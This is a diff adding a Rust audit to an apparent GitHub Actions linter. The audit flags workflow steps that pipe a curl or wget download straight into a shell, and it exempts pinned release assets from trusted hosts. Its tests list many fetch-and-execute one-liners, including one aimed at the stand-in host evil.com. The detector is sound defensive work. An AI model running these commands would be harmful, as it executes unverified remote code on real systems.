@@ -0,0 +1,411 @@
+//! Detects `run:` blocks that pipe a remote script directly into a shell,
+//! e.g. `curl -fsSL https://example.com/install.sh | bash`.
+//!
+//! The detection is tokenization-based rather than regex-based: we parse
+//! the `run:` body with tree-sitter's bash grammar and look for `pipeline`
+//! nodes where a downloading command (`curl`, or `wget` writing to stdout)
+//! appears upstream of a shell interpreter.
+
+use anyhow::Context as _;
+use subfeature::Subfeature;
+use tree_sitter::StreamingIterator as _;
+
+use super::{Audit, AuditLoadError, audit_meta};
+use crate::audit::AuditError;
+use crate::config::Config;
+use crate::finding::{Confidence, Finding, Severity};
+use crate::models::{StepBodyCommon, StepCommon, action::CompositeStep, workflow::Step};
+use crate::state::AuditState;
+use crate::utils;
+
+const BASH_PIPELINE_QUERY: &str = "(pipeline) @span";
+
+/// Shell interpreters that will execute a script received on stdin.
+const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh"];
+
+/// Commands that can wrap a shell interpreter, e.g. `sudo bash`.
+const WRAPPERS: &[&str] = &["sudo", "env"];
+
+pub(crate) struct CurlPipeBash {
+    bash_pipeline_query: utils::SpannedQuery,
+}
+
+audit_meta!(
+    CurlPipeBash,
+    "curl-pipe-bash",
+    "remote script is piped directly into a shell",
+    severity = Medium
+);
+
+/// A single (simple) command within a pipeline.
+struct PipelineCommand<'a> {
+    name: &'a str,
+    args: Vec<&'a str>,
+}
+
+impl<'a> PipelineCommand<'a> {
+    fn from_node(node: tree_sitter::Node<'_>, source: &'a str) -> Option<Self> {
+        if node.kind() != "command" {
+            return None;
+        }
+
+        let text = |node: tree_sitter::Node<'_>| {
+            node.utf8_text(source.as_bytes())
+                .expect("impossible: node should be UTF-8 by construction")
+        };
+
+        let name = text(node.child_by_field_name("name")?);
+        // Normalize `/usr/bin/curl` and similar into just `curl`.
+        let name = name.rsplit('/').next().unwrap_or(name);
+
+        let mut cursor = node.walk();
+        let args = node
+            .children_by_field_name("argument", &mut cursor)
+            .map(|arg| {
+                let arg = text(arg);
+                arg.strip_prefix(['"', '\''])
+                    .and_then(|arg| arg.strip_suffix(['"', '\'']))
+                    .unwrap_or(arg)
+            })
+            .collect();
+
+        Some(Self { name, args })
+    }
+
+    /// Returns whether this command downloads something and writes it to stdout.
+    fn is_download(&self) -> bool {
+        match self.name {
+            // curl writes to stdout unless told otherwise.
+            "curl" => !self.args.iter().any(|arg| {
+                matches!(*arg, "-o" | "-O" | "--output" | "--remote-name")
+                    || arg.starts_with("--output=")
+            }),
+            // wget writes to a file unless explicitly told to use stdout,
+            // e.g. `wget -O- ...`, `wget -qO - ...`, or `wget --output-document=- ...`.
+            "wget" => self.args.iter().enumerate().any(|(idx, arg)| {
+                let is_short_flag = arg.starts_with('-') && !arg.starts_with("--");
+                let next = self.args.get(idx + 1).copied();
+
+                *arg == "--output-document=-"
+                    || (is_short_flag && arg.ends_with("O-"))
+                    || ((is_short_flag && arg.ends_with('O') || *arg == "--output-document")
+                        && next == Some("-"))
+            }),
+            _ => false,
+        }
+    }
+
+    /// Returns whether this command is a shell interpreter, possibly wrapped
+    /// in something like `sudo`.
+    fn is_shell(&self) -> bool {
+        if SHELLS.contains(&self.name) {
+            return true;
+        }
+
+        WRAPPERS.contains(&self.name)
+            && self
+                .args
+                .iter()
+                .find(|arg| !arg.starts_with('-') && !arg.contains('='))
+                .is_some_and(|arg| SHELLS.contains(&arg.rsplit('/').next().unwrap_or(arg)))
+    }
+
+    /// Returns the first URL-looking argument to this command, if any.
+    fn url(&self) -> Option<&'a str> {
+        self.args
+            .iter()
+            .find(|arg| arg.starts_with("https://") || arg.starts_with("http://"))
+            .copied()
+    }
+}
+
+impl CurlPipeBash {
+    /// Returns whether the given URL is a pinned release asset from
+    /// one of the given trusted hosts.
+    ///
+    /// A "pinned release asset" is a URL of the form
+    /// `https://<host>/<owner>/<repo>/releases/download/<tag>/<asset>`,
+    /// where `<tag>` is not the floating `latest` tag.
+    fn is_trusted_release_asset(url: &str, trusted_hosts: &[String]) -> bool {
+        // URLs containing shell expansions can't be reasoned about statically.
+        if url.contains('$') {
+            return false;
+        }
+
+        let Ok(url) = url::Url::parse(url) else {
+            return false;
+        };
+
+        if url.scheme() != "https" {
+            return false;
+        }
+
+        let Some(host) = url.host_str() else {
+            return false;
+        };
+
+        if !trusted_hosts
+            .iter()
+            .any(|trusted| trusted.eq_ignore_ascii_case(host))
+        {
+            return false;
+        }
+
+        let Some(segments) = url.path_segments() else {
+            return false;
+        };
+
+        match segments.collect::<Vec<_>>().as_slice() {
+            [owner, repo, "releases", "download", tag, asset] => {
+                !owner.is_empty()
+                    && !repo.is_empty()
+                    && !tag.is_empty()
+                    && *tag != "latest"
+                    && !asset.is_empty()
+            }
+            _ => false,
+        }
+    }
+
+    fn pipe_to_shell_candidates<'doc>(
+        &self,
+        run: &'doc str,
+        trusted_hosts: &[String],
+    ) -> Result<Vec<(Subfeature<'doc>, Confidence)>, AuditError> {
+        let mut parser = utils::bash_parser();
+        let tree = parser
+            .parse(run, None)
+            .context("failed to parse `run:` body as bash")
+            .map_err(Self::err)?;
+
+        let mut cursor = tree_sitter::QueryCursor::new();
+        let mut matches =
+            cursor.matches(&self.bash_pipeline_query, tree.root_node(), run.as_bytes());
+
+        let mut candidates = vec![];
+        while let Some(mat) = matches.next() {
+            let span = mat
+                .captures
+                .iter()
+                .find(|cap| cap.index == self.bash_pipeline_query.span_idx)
+                .expect("internal error: expected capture for span");
+
+            let mut walker = span.node.walk();
+            let commands = span
+                .node
+                .named_children(&mut walker)
+                .filter_map(|node| PipelineCommand::from_node(node, run))
+                .collect::<Vec<_>>();
+
+            // We're looking for a download that's piped (possibly via
+            // intermediate commands) into a shell.
+            let Some(download_idx) = commands.iter().position(|cmd| cmd.is_download()) else {
+                continue;
+            };
+
+            if !commands[download_idx + 1..]
+                .iter()
+                .any(|cmd| cmd.is_shell())
+            {
+                continue;
+            }
+
+            let confidence = match commands[download_idx].url() {
+                Some(url) if Self::is_trusted_release_asset(url, trusted_hosts) => continue,
+                Some(_) => Confidence::High,
+                // No literal URL, e.g. `curl "$URL" | sh`. This is still
+                // a smell, but we can't tell where the script is coming from.
+                None => Confidence::Medium,
+            };
+
+            let span_contents = span
+                .node
+                .utf8_text(run.as_bytes())
+                .expect("impossible: capture should be UTF-8 by construction");
+
+            candidates.push((
+                Subfeature::new(span.node.start_byte(), span_contents),
+                confidence,
+            ));
+        }
+
+        Ok(candidates)
+    }
+
+    fn process_step<'doc>(
+        &self,
+        step: &impl StepCommon<'doc>,
+        config: &Config,
+    ) -> Result<Vec<Finding<'doc>>, AuditError> {
+        let mut findings = vec![];
+
+        let Some(StepBodyCommon::Run { run, .. }) = step.body() else {
+            return Ok(findings);
+        };
+
+        let shell = step.shell().map(|s| s.0).unwrap_or_else(|| {
+            tracing::debug!(
+                "curl-pipe-bash: couldn't determine shell for step {loc:#?}; assuming bash",
+                loc = step.location()
+            );
+            "bash"
+        });
+
+        if !matches!(utils::normalize_shell(shell), "bash" | "sh" | "zsh") {
+            tracing::debug!("curl-pipe-bash: skipping 'run:' block with shell '{shell}'");
+            return Ok(findings);
+        }
+
+        let trusted_hosts = &config.curl_pipe_bash_config.trusted_hosts;
+        for (subfeature, confidence) in self.pipe_to_shell_candidates(run, trusted_hosts)? {
+            findings.push(
+                Self::finding()
+                    .severity(Severity::Medium)
+                    .confidence(confidence)
+                    .add_location(step.location().hidden())
+                    .add_location(
+                        step.location()
+                            .with_keys(["run".into()])
+                            .key_only()
+                            .annotated("this step"),
+                    )
+                    .add_location(
+                        step.location()
+                            .primary()
+                            .with_keys(["run".into()])
+                            .subfeature(subfeature)
+                            .annotated("remote script is piped into a shell"),
+                    )
+                    .tip("download the script, verify it, and then execute it")
+                    .build(step)?,
+            );
+        }
+
+        Ok(findings)
+    }
+}
+
+#[async_trait::async_trait]
+impl Audit for CurlPipeBash {
+    fn new(_state: &AuditState) -> Result<Self, AuditLoadError> {
+        Ok(Self {
+            bash_pipeline_query: utils::SpannedQuery::new(BASH_PIPELINE_QUERY, &utils::BASH),
+        })
+    }
+
+    async fn audit_step<'doc>(
+        &self,
+        step: &Step<'doc>,
+        config: &Config,
+    ) -> Result<Vec<Finding<'doc>>, AuditError> {
+        self.process_step(step, config)
+    }
+
+    async fn audit_composite_step<'doc>(
+        &self,
+        step: &CompositeStep<'doc>,
+        config: &Config,
+    ) -> Result<Vec<Finding<'doc>>, AuditError> {
+        self.process_step(step, config)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn candidates(run: &str) -> Vec<Confidence> {
+        let audit = CurlPipeBash {
+            bash_pipeline_query: utils::SpannedQuery::new(BASH_PIPELINE_QUERY, &utils::BASH),
+        };
+
+        audit
+            .pipe_to_shell_candidates(run, &["github.com".into()])
+            .unwrap()
+            .into_iter()
+            .map(|(_, confidence)| confidence)
+            .collect()
+    }
+
+    #[test]
+    fn test_pipe_to_shell_candidates() {
+        for (run, expected) in &[
+            // Plain curl/wget into a shell.
+            (
+                "curl -fsSL https://example.com/install.sh | bash",
+                Some(Confidence::High),
+            ),
+            (
+                "curl https://example.com/install.sh | sh -s -- -y",
+                Some(Confidence::High),
+            ),
+            (
+                "wget -qO- https://example.com/install.sh | sh",
+                Some(Confidence::High),
+            ),
+            (
+                "wget -O - https://example.com/install.sh | bash",
+                Some(Confidence::High),
+            ),
+            (
+                "wget --output-document=- https://example.com/install.sh | bash",
+                Some(Confidence::High),
+            ),
+            // Wrapped shells and intermediate commands.
+            (
+                "curl -sL https://example.com/install.sh | sudo -E bash -",
+                Some(Confidence::High),
+            ),
+            (
+                "curl -sL https://example.com/install.sh | tee install.log | /bin/bash",
+                Some(Confidence::High),
+            ),
+            (
+                "/usr/bin/curl -sL 'https://example.com/install.sh' | zsh",
+                Some(Confidence::High),
+            ),
+            // Non-literal URLs.
+            (
+                "curl -sL \"$INSTALLER_URL\" | bash",
+                Some(Confidence::Medium),
+            ),
+            // Pinned release assets from a trusted host are OK.
+            (
+                "curl -sL https://github.com/foo/bar/releases/download/v1.2.3/install.sh | bash",
+                None,
+            ),
+            // ...but not floating tags, untrusted hosts, or plaintext.
+            (
+                "curl -sL https://github.com/foo/bar/releases/download/latest/install.sh | bash",
+                Some(Confidence::High),
+            ),
+            (
+                "curl -sL https://evil.com/foo/bar/releases/download/v1.2.3/install.sh | bash",
+                Some(Confidence::High),
+            ),
+            (
+                "curl -sL http://github.com/foo/bar/releases/download/v1.2.3/install.sh | bash",
+                Some(Confidence::High),
+            ),
+            (
+                "curl -sL https://github.com/foo/bar/releases/download/$VERSION/install.sh | bash",
+                Some(Confidence::High),
+            ),
+            // Not piped into a shell.
+            ("curl -sL https://example.com/data.json | jq .", None),
+            (
+                "curl -sL https://example.com/install.sh -o install.sh",
+                None,
+            ),
+            ("wget https://example.com/install.sh | bash", None),
+            ("cat install.sh | bash", None),
+            ("bash install.sh", None),
+        ] {
+            assert_eq!(
+                candidates(run),
+                expected.iter().copied().collect::<Vec<_>>(),
+                "run: {run:?}"
+            );
+        }
+    }
+}